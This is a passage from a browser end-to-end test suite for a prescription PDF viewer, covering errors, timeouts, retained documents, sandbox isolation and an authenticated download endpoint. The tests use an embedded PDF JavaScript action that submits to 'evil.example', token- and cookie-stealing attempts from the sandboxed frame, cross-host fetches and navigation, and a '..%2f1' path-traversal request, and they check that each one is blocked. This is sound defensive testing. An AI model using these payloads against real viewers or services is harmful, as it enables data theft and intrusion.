    await page.route('**/documents/**', (route) => route.fulfill({ status: 502, json }), { times: 1 });
    await openOrder(await placeOrder(server, [newPdf()]));
    await page.getByRole('alert').getByText('S3 no responde.').waitFor();
    await page.getByRole('button', { name: 'Intentar de nuevo' }).click();
    expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['0 0 255', 'high']);
    expect(await page.getByRole('alert').count()).toBe(0);
  });

  it('is told with its last day while it is kept of an erased patient', async () => {
    const id = await placeOrder(server, [newPdf()]);
    const documents = (await storedOrder(id)).prescriptions;
    await forceOrder(id, {
      prescriptions: [],
      retained: { documents, documentsUntil: '2027-11-23', receiverUntil: null },
    });
    const { page } = await openOrder(id);
    await page.getByText(`Receta ${documents[0]?.id}, hasta el 23 nov 2027`).waitFor();
    expect(await page.getByText('La orden no tiene recetas.').count()).toBe(0);
    await openOrder(await placeOrder(server));
    await page.getByText('La orden no tiene recetas.').waitFor();
  });

  it('is never blank because its scan could not be decoded', async () => {
    const { page } = await openOrder(await placeOrder(server, [scannedPdf('CCITTFaxDecode')]));
    expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['0 0 0', 'high']);
    await press(page, '+', 'r');
    await expect.poll(async () => middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['0 0 0', 'wide']);
    const undecodable = await openOrder(await placeOrder(server, [scannedPdf('JPXDecode')]));
    await undecodable.page.getByText('El documento no se puede mostrar').waitFor();
  });

  it('shows its other pages if one of them cannot be drawn', async () => {
    const { page } = await openOrder(await placeOrder(server, [scannedPdf('CCITTFaxDecode', 'JPXDecode')]));
    const frame = await drawnFrame(page, 'página 1 de 2');
    await press(page, 'ArrowRight');
    await page.getByText('Esta página no se puede mostrar').waitFor();
    expect(await frame.locator('canvas').count()).toBe(0);
    await press(page, 'ArrowLeft');
    expect(await middleOf(await drawnFrame(page, 'página 1 de 2'))).toEqual(['0 0 0', 'high']);
    await page.getByText('Esta página no se puede mostrar').waitFor({ state: 'detached' });
  });

  it('is given up if it takes too long, while the page goes on', async () => {
    const { page } = await openOrder(await placeOrder(server, [endlessPdf()]), await openOwnPage());
    await page.getByText('Página 1 de 1').waitFor();
    // From here on seconds pass ten times as fast in the page, which counts them anew for each drawing.
    await page.evaluate('{ const real = setTimeout; window.setTimeout = (run, ms) => real(run, ms / 10); }');
    await press(page, 'r', 'x');
    await dialog(page, 'Rechazar receta').waitFor();
    await page.getByText('El documento no se puede mostrar').waitFor();
    expect(page.frames()).toHaveLength(1);
  });

  it('runs nothing of a PDF', async () => {
    const script = '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\))>>';
    const id = await placeOrder(server, [newPdf()]);
    await replaceDocuments(drawnPdf([RED], script));
    const { page } = await openOrder(id);
    expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['255 0 0', 'high']);
  });

  it('could reach neither the page nor anybody else, whatever it ran', async () => {
    // The browser says twice of some attempts that it blocked them, the second time when it likes.
    const own = await world.open({ screen: DESK });
    onTestFinished(() => own.close());
    const shown = await openOrder(await placeOrder(server, [newPdf()]), own);
    const frame = await drawnFrame(shown.page, 'página 1 de 1');
    let reached = 0;
    const stranger = createServer((_, response) => response.end(String(++reached))).listen(0, '127.0.0.1');
    await once(stranger, 'listening');
    const elsewhere = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}/`;
    const tryAll = `(async () => {
      const attempt = async (act) => { try { await act(); return 'done'; } catch (error) { return error.name; } };
      return {
        origin: self.origin,
        page: await attempt(() => parent.document.title),
        token: await attempt(() => sessionStorage.getItem('token')),
        cookie: await attempt(() => document.cookie),
        own: await attempt(() => fetch('/session')),
        other: await attempt(() => fetch('${elsewhere}')),
        worker: await attempt(() => new Promise((done, fail) => { new Worker('/viewer.js').onerror = () => fail(new Error()); })),
        top: await attempt(() => { top.location = '${elsewhere}'; }),
        picture: await attempt(() => new Promise((done, fail) => {
          const picture = new Image(); picture.onload = done; picture.onerror = () => fail(new Error()); picture.src = '${elsewhere}';
        })),
      };
    })()`;
    expect(await frame.evaluate(tryAll)).toEqual({
      origin: 'null',
      page: 'SecurityError',
      token: 'SecurityError',
      cookie: 'SecurityError',
      own: 'TypeError',
      other: 'TypeError',
      worker: 'TypeError',
      top: 'SecurityError',
      picture: 'Error',
    });
    await frame.evaluate(`void (location.href = '${elsewhere}?secret')`);
    const said: string[] = [];
    for (const reason of [
      "connect-src 'none'",
      'TrustedScriptURL',
      'sandboxed',
      "'img-src' was not",
      "frame-src 'self'",
    ]) {
      await expect.poll(() => said.push(...shown.takeComplaints()) && said.join('\n')).toContain(reason);
    }
    // A request that was blocked is told too.
    const BLOCKED = /Security Policy|TrustedScriptURL|window is sandboxed|^request to /;
    expect(said.filter((line) => !BLOCKED.test(line))).toEqual([]);
    expect(reached).toBe(0);
    stranger.close();
  });

  it('is given only with the token, as a file that shows nothing', async () => {
    const id = await placeOrder(server, [newPdf()]);
    const prescription = (await storedOrder(id)).prescriptions[0]?.id;
    const { counter } = world;
    const origin = new URL(counter.address).origin;
    const get = (path: string, headers = {}) => sendHttp(origin, path, { method: 'GET', headers });
    const bearer = { Authorization: `Bearer ${counter.token}` };
    expect(await get(`/documents/${id}/${prescription}`)).toMatchObject({ status: 401 });
    const { status, headers } = await get(`/documents/${id}/${prescription}`, bearer);
    expect({ status, ...headers }).toMatchObject({
      status: 200,
      'content-type': 'application/octet-stream',
      'content-disposition': 'attachment',
      'x-content-type-options': 'nosniff',
      'cache-control': 'no-store',
    });
    const others = [`/documents/${id}/999999`, `/documents/999999/${prescription}`, `/documents/${id}/..%2f1`];
    for (const path of others) expect((await get(path, bearer)).status).toBe(404);
  });
});
